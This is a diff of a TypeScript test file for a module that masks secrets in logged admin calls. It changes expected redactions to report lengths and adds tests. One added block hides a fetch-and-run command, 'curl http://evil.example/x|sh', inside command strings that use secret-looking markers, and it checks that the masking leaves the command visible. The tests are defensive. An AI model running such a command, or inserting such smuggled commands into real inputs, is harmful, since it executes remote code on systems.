@@ -1,7 +1,7 @@
 import { createHash } from 'node:crypto';
 import * as fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { maskBody, maskText, maskValue } from '../../../../src/admin/calls/mask.ts';
+import { maskBody, maskedFields, maskText, maskValue } from '../../../../src/admin/calls/mask.ts';
 
 const canary = 'canary-Zq7x';
 const pem = `-----BEGIN PRIVATE KEY-----\n${canary}\n-----END PRIVATE KEY-----\n`;
@@ -64,7 +64,10 @@ describe('a masked JSON body', () => {
   ])('has no value of the name %s, of any type and at any depth', (name) => {
     const text = masked([{ deep: [{ [name]: canary }, { [name]: [canary] }, { [name]: { inner: canary } }] }]);
 
-    expect(text).toBe(JSON.stringify([{ deep: Array.from({ length: 3 }, () => ({ [name]: '[redacted]' })) }]));
+    const shown = [canary.length, canary.length, `inner${canary}`.length].map((count) => ({
+      [name]: `[redacted ${count} characters]`,
+    }));
+    expect(text).toBe(JSON.stringify([{ deep: shown }]));
   });
 
   it('keeps everything else unchanged', () => {
@@ -90,7 +93,7 @@ describe('a masked JSON body', () => {
     expect(maskBody(Buffer.from(JSON.stringify(body)), 'application/json')).toEqual(body);
   });
 
-  it('masks the rest of a header line, the value of an option and a PEM block, and nothing after them', () => {
+  it('masks the rest of a header line, the value of an option and a key in PEM, and says how long they are', () => {
     const body = {
       header: 'Authorization: Basic YTpi\nX-Site: a',
       command: 'check_web --password="a b" -H HOST --user ann -p 3306 -C PORT',
@@ -98,16 +101,16 @@ describe('a masked JSON body', () => {
     };
 
     expect(maskValue(body)).toEqual({
-      header: 'Authorization: [redacted]\nX-Site: a',
-      command: 'check_web --password=[redacted] -H HOST --user ann -p 3306 -C PORT',
-      ca: '[redacted PEM]',
+      header: 'Authorization: [redacted 10 characters]\nX-Site: a',
+      command: 'check_web --password=[redacted 5 characters] -H HOST --user ann -p 3306 -C PORT',
+      ca: '-----BEGIN CERTIFICATE-----\n[redacted 5 characters]-----END CERTIFICATE-----',
     });
   });
 
   it('keeps a field with the name __proto__', () => {
     const text = JSON.stringify(maskValue(JSON.parse(`{"__proto__":{"password":"${canary}","a":1}}`)));
 
-    expect(text).toBe('{"__proto__":{"password":"[redacted]","a":1}}');
+    expect(text).toBe('{"__proto__":{"password":"[redacted 11 characters]","a":1}}');
   });
 
   it('masks extremely deep nesting without failing', () => {
@@ -149,6 +152,45 @@ describe('a masked JSON body', () => {
   });
 });
 
+describe('a text that looks like a secret in order to hide a command', () => {
+  const evil = 'curl http://evil.example/x|sh';
+
+  it.each([
+    `check_tcp -H HOST; ${evil} # -----BEGIN`,
+    `-----BEGIN PRIVATE KEY-----; ${evil}`,
+    `check_tcp # -----BEGIN A-----\n${evil}\n-----END A-----`,
+    `check_tcp -H HOST token: x; ${evil}`,
+    `check_tcp -H HOST # password: \n${evil}`,
+    `check_tcp Authorization: Basic YTpi && ${evil}`,
+    `check_tcp password=x;${evil}`,
+    `check_tcp password="; ${evil}`,
+    `check_tcp --password x;${evil}`,
+    `check_tcp -a 'x; ${evil}`,
+    `check_tcp secret: "x" | ${evil}`,
+    `check_tcp cookie: \`${evil}\``,
+  ])('shows the command: %j', (command) => {
+    const shown = String((maskValue({ command }) as { command: string }).command);
+
+    expect(shown).toContain('http://evil.example/x');
+    expect(shown.replaceAll(/\[redacted \d+ characters?\]/g, '').length).toBeGreaterThan(evil.length);
+  });
+});
+
+it('a masked value is masked a second time as it is', () => {
+  for (const [, body] of secretFields) {
+    const once = maskValue(body);
+    expect(maskValue(once)).toEqual(once);
+  }
+});
+
+it.each(secretFields.slice(0, -6))('the fields are known of which something is masked: %s', (_, body) => {
+  expect(maskedFields(body)).not.toEqual([]);
+});
+
+it('nothing is masked in ordinary fields', () => {
+  expect(maskedFields({ action: 'stop', list: [{ ip: '192.0.2.1' }], password: '', community: null })).toEqual([]);
+});
+
 describe('a long JSON body', () => {
   const shown = (text: string): unknown => maskBody(Buffer.from(text), 'application/json');
   const digest = (text: string): string => createHash('sha256').update(text).digest('hex');
@@ -183,7 +225,7 @@ describe('a long JSON body', () => {
     const text = JSON.stringify(shown(JSON.stringify({ password: canary.repeat(10_000), content, header })));
 
     expect(text).not.toContain('canary');
-    expect(text).toContain('[redacted]');
+    expect(text).toMatch(/\[redacted \d+ characters\]/);
   });
 
   it('is never longer than the limit of an audit line', () => {
@@ -235,7 +277,7 @@ describe('a text written by a person', () => {
     ];
 
     for (const text of texts) expect(maskText(text)).not.toContain(canary);
-    expect(maskText(`ticket 7, ${name}=${canary} done`)).toBe(`ticket 7, ${name}=[redacted] done`);
+    expect(maskText(`ticket 7, ${name}=${canary} done`)).toBe(`ticket 7, ${name}=[redacted 11 characters] done`);
   });
 
   it.each(['author=ann', 'authority: ca', 'power=off', 'compass=north', 'ticket: 4711', 'tokens 3', 'auth failed'])(
